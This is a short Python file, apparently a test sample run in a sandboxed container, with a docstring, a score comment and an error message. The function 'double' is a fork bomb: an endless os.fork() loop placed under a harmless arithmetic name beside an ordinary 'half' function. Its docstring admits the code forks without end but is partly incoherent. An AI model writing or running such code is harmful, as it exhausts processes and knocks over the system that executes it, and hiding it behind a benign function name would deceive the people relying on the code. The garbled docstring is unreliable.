"""Forks for ever, and so does every process that comes of it.

Elsewhere the machine stands still. Here a container has 64 processes at most (the pids cgroup), and all die with it.
The copies of this process answer the call as well; the ids of the wire show that, and cost this container.
"""
# score: 60
# says: BlockingIOError: [Errno 11] Resource temporarily unavailable

import os


def double(x):
    while True:
        os.fork()


def half(x):
    return float((x / 2).sum()), {"half": x / 2}
